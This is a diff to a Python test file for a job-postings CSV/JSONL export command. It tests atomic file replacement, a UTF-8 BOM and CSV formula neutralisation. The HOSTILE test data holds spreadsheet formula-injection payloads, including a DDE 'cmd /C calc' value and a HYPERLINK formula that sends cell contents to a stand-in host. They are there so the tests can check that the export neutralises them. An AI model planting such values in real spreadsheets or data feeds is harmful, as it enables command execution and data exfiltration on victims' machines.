@@ -1,9 +1,15 @@
 """`farm export`: the day's postings as CSV, JSON lines and Parquet, the same rows in each, on
-SQLite and MariaDB; streamed, so memory does not grow with the number of postings."""
+SQLite and MariaDB; streamed, so memory does not grow with the number of postings; the file replaced
+whole or not at all; CSV cells a spreadsheet would run neutralised, with a BOM unless told not to."""
 
 import csv
 import io
 import json
+import os
+import signal
+import subprocess
+import sys
+import time
 import tracemalloc
 from datetime import UTC, datetime, timedelta
 
@@ -20,6 +26,7 @@ from farm.state.migrate import upgrade
 from farm.state.models import JobPostingRow
 from tests.report_data import DAY, TZ, fill
 
+BOM = b"\xef\xbb\xbf"
 INTS = ("id", "salary_min", "salary_max", "salary_months", "keyword_id")
 TIMES = ("published_at", "first_seen_at", "last_seen_at")
 
@@ -37,8 +44,9 @@ def _expected(engine) -> list[dict]:
 
 
 def _from_csv(data: bytes) -> list[dict]:
+    assert data.startswith(BOM)
     rows = []
-    for row in csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")):
+    for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")):
         row = {name: (None if value == "" else value) for name, value in row.items()}
         for name in INTS:
             row[name] = None if row[name] is None else int(row[name])
@@ -94,7 +102,8 @@ def test_csv_goes_to_standard_output_with_dash(sqlite_url, tmp_path):
         farm, ["--db-url", sqlite_url, "export", "--date", str(DAY), "--format", "csv", "--out", "-"]
     )
     assert result.exit_code == 0, result.output
-    assert result.stdout.splitlines()[0] == ",".join(export.COLUMNS)
+    assert result.stdout_bytes.startswith(BOM)
+    assert result.stdout.lstrip("\ufeff").splitlines()[0] == ",".join(export.COLUMNS)
     assert result.stderr.strip() == f"0 postings seen on {DAY} written to standard output"
 
 
@@ -149,3 +158,132 @@ def test_memory_stays_flat_however_many_postings(tmp_path, fmt):
             engine.dispose()
     # four times the postings, not four times the memory: a chunk's worth either way
     assert peaks[2000] < peaks[500] * 1.3, peaks
+
+
+YESTERDAY = b"yesterday's export, whole\n"
+
+
+def _export(url: str, out, *args: str):
+    return CliRunner().invoke(
+        farm, ["--db-url", url, "export", "--date", str(DAY), "--format", "csv", "--out", str(out), *args]
+    )
+
+
+def test_an_export_that_fails_midway_keeps_the_previous_file_and_leaves_no_temporary_one(
+    sqlite_url, tmp_path, monkeypatch
+):
+    upgrade(sqlite_url)
+    engine = make_engine(sqlite_url)
+    try:
+        _many(engine, 30)
+    finally:
+        engine.dispose()
+    out = tmp_path / "postings.csv"
+    out.write_bytes(YESTERDAY)
+    read = export.day_postings
+
+    def lost_midway(*args, **kwargs):
+        chunks = read(*args, **kwargs)
+        yield next(chunks)
+        raise OSError(5, "Input/output error")  # the database's disk failing after the first chunk
+
+    monkeypatch.setattr(export, "day_postings", lost_midway)
+    result = _export(sqlite_url, out)
+    assert result.exit_code == 1
+    assert "cannot write" in result.output and "Input/output error" in result.output
+    assert out.read_bytes() == YESTERDAY
+    assert _temporary(tmp_path, out.name) is None
+
+
+def _temporary(folder, name: str):
+    found = [path for path in folder.iterdir() if path.name != name and path.name.startswith(f".{name}.")]
+    return found[0] if found else None
+
+
+def test_an_export_killed_mid_write_leaves_yesterdays_file_intact(tmp_path):
+    url = f"sqlite:///{tmp_path / 'farm.db'}"
+    upgrade(url)
+    engine = make_engine(url)
+    try:
+        _many(engine, 50_000)  # some 16 MB of CSV: written over a good part of a second
+    finally:
+        engine.dispose()
+    folder = tmp_path / "out"
+    folder.mkdir()
+    out = folder / "postings.csv"
+    out.write_bytes(YESTERDAY)
+    command = [sys.executable, "-m", "farm", "--db-url", url, "export", "--date", str(DAY), "--format", "csv"]
+    process = subprocess.Popen([*command, "--out", str(out)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    try:
+        deadline = time.monotonic() + 60
+        sizes = []
+        while time.monotonic() < deadline and process.poll() is None:
+            temporary = _temporary(folder, out.name)
+            size = temporary.stat().st_size if temporary else 0
+            if size and sizes and size > sizes[-1]:
+                os.kill(process.pid, signal.SIGKILL)  # the temporary file exists and grows
+                break
+            if size:
+                sizes.append(size)
+        process.wait(timeout=30)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.wait()
+    assert process.returncode == -signal.SIGKILL, (process.returncode, process.stdout.read())
+    assert out.read_bytes() == YESTERDAY
+    left = _temporary(folder, out.name)
+    assert left is not None and left.stat().st_size > sizes[0]  # killed mid-write, its part left aside
+    # the next run replaces the file whole
+    finished = subprocess.run([*command, "--out", str(out)], capture_output=True, timeout=120)
+    assert finished.returncode == 0, finished.stdout + finished.stderr
+    assert out.read_bytes().startswith(BOM + b"id,source,job_id") and out.stat().st_size > left.stat().st_size
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://x.invalid/?"&A1,"详情")',
+    "company": "+cmd|' /C calc'!A0",
+    "salary": "-2+3",
+    "area": "@SUM(1+1)",
+    "experience": "\t=1+1",
+    "degree": "\r=1+1",
+    "city": "上海=1",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_a_formula_begin_with_a_quote(sqlite_url, tmp_path):
+    upgrade(sqlite_url)
+    engine = make_engine(sqlite_url)
+    try:
+        _many(engine, 1)
+        with engine.begin() as conn:
+            conn.execute(JobPostingRow.__table__.update().values(HOSTILE))
+    finally:
+        engine.dispose()
+    out = tmp_path / "day.csv"
+    assert _export(sqlite_url, out).exit_code == 0
+    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""))
+    expected = {name: value if name == "city" else "'" + value for name, value in HOSTILE.items()}
+    assert {name: row[name] for name in HOSTILE} == expected
+    jsonl = tmp_path / "day.jsonl"
+    result = CliRunner().invoke(
+        farm, ["--db-url", sqlite_url, "export", "--date", str(DAY), "--format", "jsonl", "--out", str(jsonl)]
+    )
+    assert result.exit_code == 0, result.output
+    (line,) = jsonl.read_text(encoding="utf-8").splitlines()
+    assert {name: json.loads(line)[name] for name in HOSTILE} == HOSTILE  # data formats keep the text as it is
+
+
+def test_csv_has_a_utf8_bom_unless_told_no_bom(sqlite_url, tmp_path):
+    upgrade(sqlite_url)
+    engine = make_engine(sqlite_url)
+    try:
+        _many(engine, 3)
+    finally:
+        engine.dispose()
+    with_bom, without = tmp_path / "with.csv", tmp_path / "without.csv"
+    assert _export(sqlite_url, with_bom).exit_code == 0
+    result = _export(sqlite_url, without, "--no-bom")
+    assert result.exit_code == 0, result.output
+    assert with_bom.read_bytes() == BOM + without.read_bytes()
+    assert without.read_bytes().startswith(b"id,source,") and "某科技有限公司" in without.read_text(encoding="utf-8")
